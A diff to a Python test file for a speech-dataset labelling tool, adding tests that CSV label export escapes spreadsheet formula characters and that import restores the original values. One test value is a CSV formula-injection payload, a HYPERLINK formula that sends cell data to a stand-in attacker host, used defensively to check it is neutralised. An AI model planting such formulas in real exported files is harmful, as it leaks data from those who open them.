@@ -14,12 +14,14 @@ from accentds.errors import AccentdsError
 from accentds.labels import (
     LabelConflict,
     export_labels,
+    from_spreadsheet,
     history,
     import_labels,
     list_labels,
     rename_speaker,
     set_labels,
     set_source_defaults,
+    spreadsheet_text,
     undo,
 )
 from accentds.workspace import DRAFT_FIELDS, Workspace, read_csv, refresh_manifest, write_csv_atomic
@@ -164,6 +166,44 @@ def test_export_then_import_is_no_change_and_edits_apply(cut_ws: Workspace, tmp_
     assert cut_ws.read_labels() == {}
     assert {(c.clip_id, c.field, c.new) for c in import_labels(cut_ws, sheet)} == expected
     assert cut_ws.read_labels()[rows[3]["clip_id"]]["accent"] == "Fife"
+
+
+def test_export_escapes_formulas_for_spreadsheets_and_imports_back(cut_ws: Workspace, tmp_path: Path) -> None:
+    ids = _ids(cut_ws)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    set_labels(cut_ws, [ids[0]], {"transcript": formula, "speaker": "@Morag", "note": "-2+3"}, "ann")
+    set_labels(cut_ws, [ids[1]], {"transcript": "'=quoted already", "speaker": "+44 Ailsa"}, "ann")
+    set_labels(cut_ws, [ids[2]], {"transcript": "'Twas - aye", "note": "a = b"}, "ann")
+    sheet = tmp_path / "labels.csv"
+    done = run_cli("labels", "export", str(sheet), cwd=cut_ws.root)
+    assert done.returncode == 0, done.stderr
+    with open(sheet, newline="", encoding="utf-8") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    risky = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert risky == []  # nothing a spreadsheet would run as a formula
+    rows = {r["clip_id"]: r for r in read_csv(sheet)}
+    assert rows[ids[0]]["transcript"] == "'" + formula and rows[ids[0]]["speaker"] == "'@Morag"
+    assert rows[ids[0]]["note"] == "'-2+3" and rows[ids[1]]["speaker"] == "'+44 Ailsa"
+    assert rows[ids[1]]["transcript"] == "''=quoted already"
+    assert rows[ids[2]]["transcript"] == "'Twas - aye" and rows[ids[2]]["note"] == "a = b"  # plain text
+    assert import_labels(cut_ws, sheet) == []  # reads back as the same labels
+    rows[ids[0]]["note"] = "'-5"  # as a spreadsheet keeps an escaped cell
+    rows[ids[1]]["speaker"] = "+44 Ailsa"  # or as one saves it unescaped
+    write_csv_atomic(sheet, list(rows[ids[0]]), list(rows.values()))
+    changes = import_labels(cut_ws, sheet)
+    assert [(c.clip_id, c.field, c.new) for c in changes] == [(ids[0], "note", "-5")]
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"), ("\tx", "'\tx"), ("\r=1", "'\r=1"), ("-", "'-"), ("''@x", "'''@x"),
+        ("'", "'"), ("'a", "'a"), ("a=b", "a=b"), ("", ""), ("Aye", "Aye"),
+    ],
+)  # fmt: skip
+def test_spreadsheet_cells_round_trip(value: str, cell: str) -> None:
+    assert spreadsheet_text(value) == cell
+    assert from_spreadsheet(cell) == value
 
 
 def test_import_with_bad_rows_changes_nothing_and_names_them(cut_ws: Workspace, tmp_path: Path) -> None:
